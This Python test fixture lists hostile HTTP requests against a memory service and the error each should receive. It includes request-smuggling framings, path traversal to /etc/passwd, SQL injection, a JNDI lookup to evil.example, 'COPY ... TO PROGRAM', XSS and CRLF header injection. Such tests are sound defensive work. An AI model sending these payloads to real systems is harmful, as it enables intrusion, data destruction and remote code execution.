"""What a hostile caller may send, and the answer that docs/errors.md promises for it.

The third column is the problem's code; OK is an answer as to anybody, HAPROXY and PARSER are those
who refuse before the service is reached, and say so in their own words.
"""

import json
from dataclasses import dataclass
from typing import Any

from tests.service.raw_http import CLOSE, ask, head, send, send_typed

OK, HAPROXY, PARSER = "ok", "HAProxy", "parser"
STORE, SEARCH, BATCH = "/v1/memories", "/v1/memories/search", "/v1/memories/batch"
NOBODY = STORE + "/01890000-0000-7000-8000-000000000000"
WHOSE = {"agent_id": "hostile", "user_id": "u"}
QUESTION = json.dumps({**WHOSE, "query": "tea"}).encode()
JSON = b"Content-Type: application/json"
LOCAL = b"Host: localhost"
CHUNKED = b"Transfer-Encoding: chunked"


@dataclass(frozen=True)
class Hostile:
    name: str
    request: bytes
    status: int
    code: str


def question(**fields: Any) -> bytes:
    return send("POST", SEARCH, json.dumps({**WHOSE, "query": "tea", **fields}).encode())


def memory(**fields: Any) -> bytes:
    return send("POST", STORE, json.dumps({**WHOSE, "content": "tea", **fields}).encode())


def raw_question(field: bytes) -> bytes:
    """A search with a field that Python's json would not write."""
    return send("POST", SEARCH, QUESTION[:-1] + b", " + field + b"}")


def told(body: bytes) -> bytes:
    return send("POST", STORE, body)


def chunks(*parts: bytes) -> bytes:
    framed = b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in parts)
    return ask("POST", SEARCH, JSON, CHUNKED) + framed + b"0\r\n\r\n"


RANGES = [
    ("top_k 0", question(top_k=0), 422, "invalid_input"),
    ("top_k 51", question(top_k=51), 422, "invalid_input"),
    ("top_k beyond 64 bits", question(top_k=10**30), 422, "invalid_input"),
    ("top_k as a fraction", question(top_k=1.5), 422, "invalid_input"),
    ("alpha below 0", question(alpha=-0.1), 422, "invalid_input"),
    ("alpha -0", raw_question(b'"alpha": -0'), 200, OK),
    ("alpha 1e400", raw_question(b'"alpha": 1e400'), 422, "invalid_input"),
    ("alpha 1e-278", question(alpha=1e-278, importance_weight=1e-200), 200, OK),
    ("alpha 1e-400", raw_question(b'"alpha": 1e-400'), 200, OK),
    ("alpha NaN", raw_question(b'"alpha": NaN'), 400, "malformed_json"),
    ("alpha -Infinity", raw_question(b'"alpha": -Infinity'), 400, "malformed_json"),
    ("importance 1e-300", memory(importance=1e-300), 201, OK),
    ("importance 2.1", memory(importance=2.1), 422, "invalid_input"),
    ("5,000 digits", raw_question(b'"x": ' + b"9" * 5000), 400, "malformed_json"),
    ("limit 0", ask("GET", STORE + "?limit=0"), 422, "invalid_input"),
    ("limit 1e9", ask("GET", STORE + "?limit=1e9"), 422, "invalid_input"),
    ("limit twice", ask("GET", STORE + "?limit=1&limit=201"), 422, "invalid_input"),
    ("a content too long", memory(content="x" * 8001), 422, "invalid_input"),
    ("an empty content", memory(content=""), 422, "invalid_input"),
    ("the year 10000", memory(occurred_at="10000-01-01T00:00:00Z"), 422, "invalid_input"),
    ("before the year 1", memory(occurred_at="0001-01-01T00:00:00+14:00"), 422, "invalid_input"),
    ("a time without zone", memory(occurred_at="2026-01-01T00:00:00"), 422, "invalid_input"),
    ("a leap second", memory(occurred_at="2016-12-31T23:59:60Z"), 422, "invalid_input"),
    ("an empty batch", send("POST", BATCH, b'{"memories": []}'), 422, "invalid_input"),
    (
        "a batch of 1,001",
        send("POST", BATCH, b'{"memories": [' + b"0," * 1000 + b"0]}"),
        422,
        "invalid_input",
    ),
]

TYPES = [
    ("no body", told(b""), 400, "malformed_json"),
    ("a list", told(b"[]"), 400, "malformed_json"),
    ("null", told(b"null"), 400, "malformed_json"),
    ("a string", told(b'"content"'), 400, "malformed_json"),
    ("an unfinished object", told(b'{"content": "'), 400, "malformed_json"),
    ("two objects", told(b"{}{}"), 400, "malformed_json"),
    ("single quotes", told(b"{'content': 1}"), 400, "malformed_json"),
    ("a comment", told(b"{/**/}"), 400, "malformed_json"),
    ("an agent that is a list", memory(agent_id=["a"]), 422, "invalid_input"),
    ("an agent that is an operator", question(agent_id={"$ne": None}), 422, "invalid_input"),
    ("true for a number", question(top_k=True), 422, "invalid_input"),
    ("a number in a string", question(top_k="5"), 422, "invalid_input"),
    ("null for an agent", memory(agent_id=None), 422, "invalid_input"),
    ("another kind", memory(memory_type="__class__"), 422, "invalid_input"),
    ("a key twice", told(b'{"agent_id": "a", "agent_id": "b"}'), 400, "duplicate_key"),
    ("the prototype of all objects", question(__proto__={"admin": True}), 200, OK),
    ("fields that are not known", question(tenant_id=2, scope="*"), 200, OK),
    ("a change of owner", send("PATCH", NOBODY, b'{"agent_id": "b"}'), 422, "invalid_input"),
    ("a change of nothing", send("PATCH", NOBODY, b"{}"), 422, "invalid_input"),
    ("a change to null", send("PATCH", NOBODY, b'{"content": null}'), 422, "invalid_input"),
]

ENCODINGS = [
    ("a byte that is not UTF-8", told(b'{"content": "\xff"}'), 400, "invalid_encoding"),
    ("an overlong NUL", told(b'{"content": "\xc0\x80"}'), 400, "invalid_encoding"),
    ("a surrogate in bytes", told(b'{"content": "\xed\xa0\x80"}'), 400, "invalid_encoding"),
    ("a lone surrogate", memory(content="\ud800"), 422, "invalid_input"),
    ("NUL", memory(content="a\0b"), 422, "invalid_input"),
    ("NUL in an agent", question(agent_id="a\0b"), 422, "invalid_input"),
    ("a raw control character", told(b'{"content": "\x00"}'), 400, "malformed_json"),
    ("UTF-16", told('{"content": 1}'.encode("utf-16")), 400, "malformed_json"),
    ("a byte order mark", told(b"\xef\xbb\xbf{}"), 400, "malformed_json"),
    ("a query that is not UTF-8", ask("GET", STORE + "?agent_id=%ff"), 400, "invalid_encoding"),
    ("NUL in a query", ask("GET", STORE + "?agent_id=%00"), 422, "invalid_input"),
    ("half an escape in a query", ask("GET", STORE + "?agent_id=100%"), 200, OK),
    ("another type", send_typed(STORE, b"{}", b"Content-Type: text/plain"), 415, "type"),
    ("no type", send_typed(STORE, b"{}"), 415, "type"),
    (
        "a form",
        send_typed(STORE, b"a=b", b"Content-Type: application/x-www-form-urlencoded"),
        415,
        "type",
    ),
    ("two types", send_typed(STORE, b"{}", b"Content-Type: text/plain", JSON), 415, "type"),
    ("a compressed body", send("POST", STORE, b"{}", b"Content-Encoding: gzip"), 415, "type"),
    ("33 deep", told(b'{"a":' * 33 + b"1" + b"}" * 33), 400, "nesting_too_deep"),
    ("100,000 arrays deep", told(b'{"a":' + b"[" * 100_000), 400, "nesting_too_deep"),
]

BODIES = [
    ("a byte too much", told(b"{" + b" " * 262_143 + b"}"), 413, "body_too_large"),
    (
        "16 MiB announced, none sent",
        ask("POST", BATCH, JSON, b"Content-Length: 16777217"),
        413,
        "body_too_large",
    ),
    ("too much in chunks", chunks(b"{", *[b" " * 65536] * 5, b"}"), 413, "body_too_large"),
    ("white space in chunks", chunks(*[b" " * 65536] * 5), 413, "body_too_large"),
    ("one byte a chunk", chunks(*[bytes([byte]) for byte in QUESTION]), 200, OK),
    ("a body of a probe", ask("GET", "/livez", b"Content-Length: 5") + b"hello", 200, OK),
    (
        "asking before sending",
        send("POST", SEARCH, QUESTION, b"Expect: 100-continue"),
        200,
        OK,
    ),
]

FRAMING = [
    ("two framings", send("POST", SEARCH, QUESTION, CHUNKED), 400, HAPROXY),
    ("two lengths", send("POST", SEARCH, QUESTION, b"Content-Length: 3"), 400, HAPROXY),
    ("a negative length", ask("POST", SEARCH, JSON, b"Content-Length: -1"), 400, HAPROXY),
    ("a signed length", ask("POST", SEARCH, JSON, b"Content-Length: +42"), 400, HAPROXY),
    (
        "a length of 70 bits",
        ask("POST", SEARCH, JSON, b"Content-Length: " + b"9" * 22),
        400,
        HAPROXY,
    ),
    ("a coding nobody knows", ask("POST", SEARCH, b"Transfer-Encoding: xchunked"), 400, HAPROXY),
    (
        "chunked and identity",
        ask("POST", SEARCH, JSON, CHUNKED, b"Transfer-Encoding: identity"),
        400,
        HAPROXY,
    ),
    ("a chunk of no number", ask("POST", SEARCH, JSON, CHUNKED) + b"zz\r\n", 400, HAPROXY),
    ("a chunk of 70 bits", ask("POST", SEARCH, JSON, CHUNKED) + b"f" * 17 + b"\r\n", 400, HAPROXY),
    ("a space in a header's name", ask("GET", "/livez", b"bad name: x"), 400, HAPROXY),
    ("a space before the colon", ask("GET", "/livez", b"Host : x"), 400, HAPROXY),
    ("a header without colon", ask("GET", "/livez", b"nothing"), 400, HAPROXY),
    ("NUL in a header", ask("GET", "/livez", b"x: a\0b"), 400, HAPROXY),
    ("a name beyond ASCII", ask("GET", "/livez", b"x\xff: 1"), 400, HAPROXY),
    ("no HTTP at all", b"\x16\x03\x01\x02\x00\x01\x00\r\n\r\n", 400, HAPROXY),
    ("HTTP/0.9", b"GET /livez\r\n", 400, HAPROXY),
    ("HTTP/1.0", head("GET", b"/livez", version=b"HTTP/1.0"), 200, OK),
]

HEADERS = [
    ("65 headers", ask("GET", STORE, *[b"x: y"] * 64), 431, "headers_too_large"),
    ("102 headers", ask("GET", STORE, *[b"x: y"] * 102), 400, HAPROXY),
    ("9,000 bytes of header", ask("GET", STORE, b"x: " + b"y" * 9000), 431, "headers_too_large"),
    ("20,000 bytes of header", ask("GET", STORE, b"x: " + b"y" * 20_000), 400, HAPROXY),
    ("bytes in an id", ask("GET", STORE, b"X-Request-Id: \xff\xfe"), 200, OK),
    ("bytes in any header", ask("GET", STORE, b"Accept: \xff\xfe"), 200, OK),
    ("Serve's timeout", ask("GET", STORE, b"X-Request-Timeout-Seconds: 0.000001"), 200, OK),
    ("bytes for Serve's timeout", ask("GET", STORE, b"x-request-timeout-seconds: \xff"), 200, OK),
    ("bytes for Serve's session", ask("GET", STORE, b"x-session-id: \xff"), 200, OK),
    ("bytes for Serve's model", ask("GET", STORE, b"serve_multiplexed_model_id: \xff"), 200, OK),
    ("another host", head("GET", b"/v1/memories", b"Host: evil.example", CLOSE), 421, "host"),
    (
        "a host like ours",
        head("GET", b"/docs", b"Host: localhost.evil.example", CLOSE),
        421,
        "host",
    ),
    ("no host", head("GET", b"/v1/memories", CLOSE), 400, "bad_request"),
    ("two hosts", ask("GET", STORE, b"Host: evil.example"), 400, HAPROXY),
    ("a forwarded host", ask("GET", STORE, b"X-Forwarded-Host: evil.example"), 200, OK),
    ("a WebSocket without key", ask("GET", "/docs", b"Upgrade: websocket"), 200, OK),
]

PATHS = [
    ("a slash at the end", ask("GET", STORE + "/"), 404, "route_not_found"),
    (
        "a slash at the end of a search",
        send("POST", SEARCH + "/", QUESTION),
        404,
        "route_not_found",
    ),
    ("two slashes", ask("GET", "//v1/memories"), 404, "route_not_found"),
    ("dots", ask("GET", "/v1/../metrics"), 404, "route_not_found"),
    ("escaped dots", ask("GET", "/v1/%2e%2e/metrics"), 404, "route_not_found"),
    ("an escaped slash", ask("GET", "/v1%2fmemories/x"), 422, "invalid_input"),
    ("a semicolon", ask("GET", STORE + ";x=1"), 404, "route_not_found"),
    ("capitals", ask("GET", "/V1/memories"), 404, "route_not_found"),
    (
        "out of the pages",
        ask("GET", "/static-offline-docs/..%2f..%2f..%2fetc/passwd"),
        404,
        "route",
    ),
    ("NUL out of the pages", ask("GET", "/static-offline-docs/%00"), 404, "route_not_found"),
    ("a file's name too long", ask("GET", "/static-offline-docs/" + "a" * 300), 404, "route"),
    ("an id of SQL", ask("GET", STORE + "/1'%20OR%20'1'='1"), 422, "invalid_input"),
    ("an id of half an escape", ask("GET", STORE + "/%zz"), 422, "invalid_input"),
    ("an id that is not UTF-8", ask("GET", STORE + "/%ff"), 422, "invalid_input"),
    ("an id of nobody", ask("GET", NOBODY), 404, "memory_not_found"),
    ("forgetting for nobody", ask("DELETE", NOBODY), 422, "invalid_input"),
    ("forgetting another's", ask("DELETE", NOBODY + "?agent_id=x"), 404, "memory_not_found"),
    ("a cursor made up", ask("GET", STORE + "?cursor=' OR 1=1".replace(" ", "+")), 422, "input"),
    ("9,000 bytes of path", ask("GET", "/" + "a" * 9000), 414, "uri_too_long"),
    ("9,000 bytes of query", ask("GET", "/livez?" + "a" * 9000), 414, "uri_too_long"),
    ("20,000 bytes of path", ask("GET", "/" + "a" * 20_000), 400, HAPROXY),
    ("the whole URL", ask("GET", "http://localhost/livez"), 200, OK),
    ("the URL of another", ask("GET", "http://evil.example/livez"), 400, HAPROXY),
    ("a fragment", ask("GET", "/livez#x"), 400, HAPROXY),
    ("raw bytes", ask("GET", b"/\xff"), 400, HAPROXY),
    ("a line break", ask("GET", "/livez%0d%0aX-Evil:%201"), 404, "route_not_found"),
    ("no slash", ask("GET", "livez"), 404, HAPROXY),
]

METHODS = [
    ("PUT", ask("PUT", STORE), 405, "method_not_allowed"),
    ("TRACE", ask("TRACE", STORE), 405, "method_not_allowed"),
    ("OPTIONS", ask("OPTIONS", STORE), 405, "method_not_allowed"),
    ("PROPFIND", ask("PROPFIND", STORE), 405, "method_not_allowed"),
    ("DELETE of all", ask("DELETE", STORE), 405, "method_not_allowed"),
    ("GET of a search", ask("GET", SEARCH), 422, "invalid_input"),
    ("another method's name", ask("GET", STORE, b"X-HTTP-Method-Override: DELETE"), 200, OK),
    ("CONNECT", ask("CONNECT", "evil.example:443"), 400, HAPROXY),
    ("small letters", ask("get", STORE), 400, PARSER),
    ("a method of 200 letters", ask("A" * 200, STORE), 400, PARSER),
    ("a method that is no token", ask("G@T", STORE), 400, HAPROXY),
]

SHORT_FOR = {
    "type": "unsupported_media_type",
    "host": "host_not_allowed",
    "route": "route_not_found",
    "input": "invalid_input",
}
GROUPS = (RANGES, TYPES, ENCODINGS, BODIES, FRAMING, HEADERS, PATHS, METHODS)
HOSTILE = [
    Hostile(name, request, status, SHORT_FOR.get(code, code))
    for group in GROUPS
    for name, request, status, code in group
]

INJECTIONS = [
    "'; DROP TABLE memories; --",
    "' OR '1'='1",
    "$1::regclass; SELECT pg_sleep(10)",
    "\\'); COPY memories TO PROGRAM 'id'; --",
    "tea & !(water | milk) <-> :*",
    "foo:* & 'bar' <2> \\",
    '{"$gt": ""}, {"agent_id": "other"}',
    '"}], "memories": [{"content": "',
    "%s %d %(content)s {content} ${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\u202egnp.exe \ufeff\u200b \U000e0041",
    "line\r\nX-Evil: 1\r\n\r\n\x1b[31m\x07\x7f",
    "%_\\%_\\_ LIKE '%'",
]
